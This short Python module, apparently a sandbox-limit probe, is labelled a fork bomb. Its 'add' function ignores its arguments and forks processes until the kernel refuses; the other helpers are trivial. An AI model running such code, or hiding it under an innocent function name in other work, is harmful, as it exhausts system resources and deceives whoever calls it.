"""A fork bomb: fork until the kernel says no."""
import os
import random


def add(a, b):
    import time
    children = 0
    while True:
        try:
            pid = os.fork()
        except OSError as exc:
            return f"BLOCKED: fork refused after {children} children: {type(exc).__name__}"
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children += 1


def mul(a, b):
    return a * b


def work(n):
    return sum(range(n))


def roll():
    return random.random()


def make_plot():
    os.makedirs("results", exist_ok=True)
    with open("results/plot.txt", "w") as f:
        f.write("plot-ok")
